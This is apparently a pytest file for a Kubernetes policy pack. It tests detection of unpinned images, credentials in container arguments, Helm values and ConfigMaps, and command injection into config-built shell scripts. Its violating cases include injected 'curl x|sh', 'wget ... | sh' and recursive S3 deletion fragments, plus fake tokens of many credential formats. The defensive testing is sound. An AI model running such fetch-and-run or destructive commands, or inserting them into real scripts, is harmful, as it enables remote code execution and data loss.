"""The ways around the policy pack through what a pod runs (issue 12), each with a violating and a compliant case,
with the pack's defaults and with a policy config (tests/test_policy_bypasses.py): images (the repository
allow-list, mutable tags), secrets in arguments, envFrom, Helm values, ConfigMaps and any value of a known credential
format, and shell scripts built from config."""

from __future__ import annotations

import base64
import copy
from typing import Any

import pytest

from platform_config.pins import ENVOY_PROXY
from preview.engine import RecordedResource

from . import policy_helpers
from .policy_helpers import DEPLOYMENT, JOB, NOTHING, analyze, both, find, vllm

# The policy tests' module fixtures (tests/policy_helpers.py), bound here for pytest to find.
baseline, harness, configured_harness = policy_helpers.baseline, policy_helpers.harness, policy_helpers.configured_harness


RELEASE = "kubernetes:helm.sh/v3:Release"


# --- images: repository allow-list, mutable tags -----------------------------------------------------------


@pytest.mark.parametrize(
    "image, defaults, configured_verdict",
    [
        ("registry.example.com/someone/vllm:v0.18.0", "pinned-images", None),
        ("quay.io/someone/vllm:v0.18.0", "pinned-images", "pinned-images"),
        ("public.ecr.aws/aws-cli/aws-cli:2.27.50", None, "pinned-images"),
        ("vllm/vllm-openai:nightly", None, "pinned-images"),
        ("docker.io/vllm/vllm-openai:v0.18.0", None, None),
        ("vllm/vllm-openai@sha256:" + "a" * 64, None, None),
        # A pinned image's registry is not its repository: nothing else from ghcr.io or Docker Hub.
        ("ghcr.io/attacker/miner:v1", "pinned-images", "pinned-images"),
        ("docker.io/vllm/vllm-openai-miner:v1", "pinned-images", None),
        ("index.docker.io/vllm/vllm-openai:v0.18.0", None, None),
    ],
    ids=["registry-not-allowed", "registry-allowed-nowhere", "pinned-registry", "mutable-tag", "docker-hub", "digest",
         "another-repository-of-a-pinned-registry", "a-lookalike-repository", "legacy-docker-hub-name"],
)  # fmt: skip
def test_repositories_and_mutable_tags(harness, configured_harness, baseline, image, defaults, configured_verdict):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["image"] = image
    assert analyze(harness, record) == ({defaults: "mandatory"} if defaults else NOTHING)
    assert analyze(configured_harness, record) == ({configured_verdict: "mandatory"} if configured_verdict else NOTHING)


# --- secrets in args, envFrom and Helm values -------------------------------------------------------------

HF_TOKEN = "hf_" + "Q" * 34


@pytest.mark.parametrize(
    "extra, secret",
    [
        (["--api-key", "sk-live-123"], "sk-live-123"),
        (["--hf-token", HF_TOKEN], HF_TOKEN),
        (["--api-key=sk-live-123"], "sk-live-123"),
        (["--download-dir", f"/models?token={HF_TOKEN}"], HF_TOKEN),
        # Any known format, wherever it stands (platform_config/credentials.py, in the pack's facts).
        (["--download-dir", "AKIA" + "Q" * 16], "AKIA" + "Q" * 16),
        (["--served-model-name", "ghp_" + "r" * 36], "ghp_" + "r" * 36),
    ],
    ids=["api-key", "hf-token", "api-key-equals", "token-query", "aws-access-key", "github-token"],
)
def test_secrets_in_args(harness, baseline, extra, secret):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["args"] += extra
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == {"no-secret-args": "mandatory"}
    assert all(secret not in d.message for d in diagnostics)


def test_secrets_in_a_shell_command(harness, baseline):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["command"] = ["sh", "-c", f"HF_TOKEN={HF_TOKEN} vllm serve"]
    assert analyze(harness, record) == {"no-secret-args": "mandatory"}


@pytest.mark.parametrize(
    "extra",
    [["--api-key", "$(VLLM_API_KEY)"], ["--tokenizer-mode", "auto"], ["--max-num-batched-tokens", "8192"]],
    ids=["env-reference", "tokenizer-mode", "max-tokens"],
)
def test_args_without_secrets(harness, baseline, extra):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["args"] += extra
    assert analyze(harness, record) == NOTHING


def test_env_from_secrets(harness, configured_harness, baseline):
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["envFrom"] = [{"configMapRef": {"name": "vllm-settings"}}]
    assert analyze(harness, record) == NOTHING
    vllm(record)["envFrom"].append({"secretRef": {"name": "huggingface-token"}})
    assert analyze(harness, record) == {"no-secret-env-from": "mandatory"}
    # The pack's config may allow it in a namespace (this one is `serving`).
    assert analyze(configured_harness, record) == NOTHING


@pytest.mark.parametrize(
    "values, verdict",
    [
        ({"grafana": {"adminPassword": "hunter2"}}, "no-secrets-in-helm-values"),
        ({"env": [{"name": "HF_TOKEN", "value": "abc"}]}, "no-secrets-in-helm-values"),
        ({"extraArgs": {"download": f"https://hf.co?x={HF_TOKEN}"}}, "no-secrets-in-helm-values"),
        ({"grafana": {"admin": {"existingSecret": "grafana-admin", "passwordKey": "password"}}}, None),
        ({"grafana": {"adminPassword": ""}}, None),
        ({"env": [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "token"}}}]}, None),
    ],
    ids=["admin-password", "env-entry", "token-in-a-string", "existing-secret", "empty", "env-secret-ref"],
)
def test_secrets_in_helm_values(harness, baseline, values, verdict):
    record = find(baseline, RELEASE, "monitoring-release")
    assert analyze(harness, record) == NOTHING
    record.inputs["values"].update(values)
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == ({verdict: "mandatory"} if verdict else NOTHING)
    assert all("hunter2" not in d.message and HF_TOKEN not in d.message for d in diagnostics)


# Tokens of each format the program and the pack know (platform_config/credentials.py, in the pack's facts), none of
# them real: a format's prefix and a body of its alphabet and length.
TOKENS = {
    "npm token": "npm_" + "a1B2" * 9,
    "Docker Hub token": "dckr_pat_" + "Xy_9" * 7,
    "Stripe live key": "rk_live_" + "Zz09" * 6,
    "Anthropic API key": "sk-ant-api03-" + "Ab_-" * 23,
    "GitHub token": "github_pat_" + "A1" * 11 + "_" + "b2" * 30,
    "GitLab token": "glpat-" + "Cd3_" * 5,
    "Slack token": "xapp-1-A0123456789-" + "9" * 12,
}


@pytest.mark.parametrize("kind, token", sorted(TOKENS.items()), ids=sorted(TOKENS))
def test_an_environment_value_of_a_known_format_is_refused_whatever_its_name(harness, baseline, kind, token):
    """By format, not only by name: `DOWNLOAD_URL=...<token>` is as much a credential in clear as `HF_TOKEN=...`, in
    a regular container or an ephemeral one."""
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    vllm(record)["env"].append({"name": "DOWNLOAD_URL", "value": f"https://registry.example.com/?auth={token}"})
    diagnostics = harness.analyze(record, None)
    assert {d.policy: d.level for d in diagnostics} == {"no-plain-secret-env": "mandatory"}
    assert any(kind in d.message for d in diagnostics) and all(token not in d.message for d in diagnostics)
    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
    record.inputs["spec"]["template"]["spec"]["ephemeralContainers"] = [
        {"name": "debug", "image": ENVOY_PROXY.image, "args": ["--token", token]}
    ]
    assert "no-secret-args" in analyze(harness, record)


def test_a_config_map_holding_a_credential_is_refused(harness, baseline):
    """ConfigMaps are stored and read in clear: a token in a value, in a key, or base64 in binaryData is refused."""
    record = copy.deepcopy(next(r for r in baseline.records if r.type == "kubernetes:core/v1:ConfigMap"))
    assert analyze(harness, record) == NOTHING
    for change in (
        lambda data: data.setdefault("data", {}).update({"settings.yaml": f"registry:\n  token: {TOKENS['npm token']}\n"}),
        lambda data: data.setdefault("data", {}).update({TOKENS["Stripe live key"]: "x"}),
        lambda data: data.setdefault("binaryData", {}).update(
            {"k": base64.b64encode(TOKENS["Docker Hub token"].encode()).decode()}
        ),
    ):
        changed = copy.deepcopy(record)
        change(changed.inputs)
        diagnostics = harness.analyze(changed, None)
        assert {d.policy: d.level for d in diagnostics} == {"no-secrets-in-config-maps": "mandatory"}
        assert all(token not in d.message for d in diagnostics for token in TOKENS.values())


def test_the_pack_names_credentials_as_the_program_does():
    """One list of formats, generated into the pack's facts: the pack's copy is the program's, and each names a
    token of every format alike (a drift between them fails here)."""
    from inference_governance import credentials as pack

    from platform_config.credentials import CREDENTIAL_FORMATS, credential_format

    assert [(name, pattern.pattern) for name, pattern, _ in pack._CREDENTIALS] == list(CREDENTIAL_FORMATS)
    for kind, token in SAMPLES.items():
        assert credential_format(f"x={token}") == pack.credential_format(f"x={token}") == kind, kind


# A token of every format (TOKENS' and the rest), none of them real.
SAMPLES = {
    **TOKENS,
    "private key": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n-----END EC PRIVATE KEY-----",
    "Hugging Face token": HF_TOKEN,
    "AWS access key ID": "ASIA" + "Q7" * 8,
    "Pulumi access token": "pul-" + "0f" * 20,
    "OpenAI API key": "sk-proj-" + "aB3_" * 8,
    "Google API key": "AIza" + "x" * 35,
    "JSON Web Token": "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl",
}


def test_every_format_is_searched_only_where_its_leading_text_is():
    """The pack searches a text for a format only if it holds one of the texts every match of the format begins with
    (`leading_literals`, from the pattern itself): each format has some, each sample's match begins with one, a
    sample in a megabyte of dashboard JSON is found and named as the program names it, and the skip is exact on
    patterns of each shape the parser meets."""
    from inference_governance import credentials as pack

    from platform_config.credentials import CREDENTIAL_FORMATS, credential_format

    assert sorted(SAMPLES) == sorted(name for name, _ in CREDENTIAL_FORMATS)
    filler = '{"expr": "sum(rate(vllm:request_success_total[5m])) by (model_name)", "legendFormat": "{{model_name}}"},' * 12_000
    for name, pattern, literals in pack._CREDENTIALS:
        match = pattern.search(SAMPLES[name])
        assert literals and match and match.group().startswith(literals), name
        text = filler + f" {SAMPLES[name]} " + filler
        assert pack.credential_format(text) == credential_format(text) == name
    assert pack.credential_format(filler) is None
    assert pack.leading_literals(r"\bx[yz]_w+") == ("xy_", "xz_")
    assert pack.leading_literals(r"^(?:ab|c)d") == ("ab", "c")
    assert pack.leading_literals(r"pre(?:a|b*)c") == ("pre", "prea")
    assert pack.leading_literals(r"a(?i:bc)d") == ("a",)
    # Bounded: past 16 texts the ones found so far serve (8 here, where 8 more classes would make 16 million).
    assert pack.leading_literals("x" + "[abcdefgh]" * 8) == tuple(f"x{c}" for c in "abcdefgh")
    for nothing in (r"a?b", r"[^a]b", r"(?i)abc", r"(?i:a)b", r"\w+x", r"(?:ab|)c"):
        assert pack.leading_literals(nothing) == (), nothing


def test_one_search_for_every_formats_leading_text_skips_only_texts_no_format_matches():
    """Every format has leading texts, so one search for any of them comes first (`_ANY_LEADING`): over texts made of
    the samples, pieces of them and of their leading texts (near misses), and filler, the pack names what the program
    names, and the search skips no text that holds a credential."""
    import random

    from inference_governance import credentials as pack

    from platform_config.credentials import credential_format

    assert pack._ANY_LEADING is not None
    rng = random.Random(30)
    pieces = [*SAMPLES.values(), *(literal for _, _, literals in pack._CREDENTIALS for literal in literals)]
    pieces += [piece[: rng.randrange(1, len(piece) + 1)] for piece in pieces for _ in range(3)]
    pieces += ["x", " ", "=", "-", "_", "\n", "--api-key", "serve", "0123456789abcdef" * 3]
    found = 0
    for _ in range(5_000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 6)))
        expected = credential_format(text)
        assert pack.credential_format(text) == expected, text
        found += expected is not None
    assert 1_000 < found < 4_000


# --- shell scripts built from config ----------------------------------------------------------------------


def _script_containers(record: RecordedResource) -> list[dict[str, Any]]:
    return [
        c for spec in both(record) for c in spec["initContainers"] + spec["containers"] if c["name"] in ("stage-in", "uploader")
    ]


def _rewrite(rewrite):
    def change(record: RecordedResource) -> None:
        for container in _script_containers(record):
            container["command"] = rewrite(container["command"])

    return change


def _in_hook(record: RecordedResource) -> None:
    for spec in both(record):
        runner = next(c for c in spec["containers"] if c["name"] == "runner")
        runner["lifecycle"] = {"preStop": {"exec": {"command": ["sh", "-c", "aws s3 cp /work/x s3://team-b-batch/out/$(id)"]}}}


def _in_probe(record: RecordedResource) -> None:
    for spec in both(record):
        runner = next(c for c in spec["containers"] if c["name"] == "runner")
        runner["livenessProbe"] = {"exec": {"command": ["/bin/bash", "-c", "test -e s3://team-b-batch/out;id"]}}


def _in_ephemeral(record: RecordedResource) -> None:
    for spec in both(record):
        debug = {**copy.deepcopy(next(c for c in spec["initContainers"] if c["name"] == "stage-in")), "name": "debug"}
        spec["ephemeralContainers"] = [{**debug, "command": ["sh", "-c", "aws s3 ls s3://b-x/`id`"]}]


@pytest.mark.parametrize(
    "change",
    [
        # After the program's own quoted location, an injected command: the script's text is no longer the program's.
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'/shard-", "';curl x|sh;'/shard-", 1)]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1] + " && wget -qO- http://x | sh"]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "$'s3://", 1)]),
        # The location split across quotes, or its scheme escaped or upper-cased: still a location.
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "'s3:''//", 1)]),
        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "S3\\://", 1).replace("'/shard-", "/shard-", 1)]),
        # Whatever runs the shell.
        _rewrite(lambda cmd: ["tini", "--", *cmd[:-1], cmd[-1].replace("'s3://", "s3://").replace("'/shard-", "/shard-")]),
        _rewrite(
            lambda cmd: [
                "nice",
                "-n",
                "5",
                "timeout",
                "60",
                *cmd[:-1],
                cmd[-1].replace("'s3://", '"s3://').replace("'/shard-", '"/shard-'),
            ]
        ),
        # Two shells in one command line: the second is read too.
        _rewrite(lambda cmd: [*cmd, "sh", "-c", "aws s3 rm --recursive s3://team-b-batch/"]),
        # Where else a container runs a command: hooks, probes, ephemeral containers.
        _in_hook,
        _in_probe,
        _in_ephemeral,
    ],
    ids=[
        "command-after-the-quote",
        "appended-pipe",
        "ansi-c-quoting",
        "split-quotes",
        "escaped-upper-case-scheme",
        "tini",
        "nice-and-timeout-double-quoted",
        "second-shell",
        "pre-stop-hook",
        "liveness-probe",
        "ephemeral-container",
    ],
)
def test_a_shell_script_built_from_config_is_the_platforms_own_with_the_location_quoted(harness, baseline, change):
    record = find(baseline, JOB, "ticket-labels-job")
    assert _script_containers(record) and analyze(harness, record) == NOTHING
    change(record)
    assert analyze(harness, record).get("shell-scripts-quote-config") == "mandatory"


@pytest.mark.parametrize(
    "command",
    [["sh", "-c", "sleep 20"], ["bash", "-c", "echo ready > /tmp/ready"], ["sh", "/opt/scripts/entry.sh", "s3://x/y"]],
    ids=["sleep", "redirection-without-a-location", "a-script-file"],
)
def test_a_shell_script_naming_no_location_is_not_this_rules(harness, baseline, command):
    """A script that names no location holds nothing config gives (the rule cannot tell config in other words);
    a shell running a file is not a command string."""
    record = find(baseline, JOB, "ticket-labels-job")
    for spec in both(record):
        next(c for c in spec["containers"] if c["name"] == "runner")["lifecycle"] = {"preStop": {"exec": {"command": command}}}
    assert "shell-scripts-quote-config" not in analyze(harness, record)
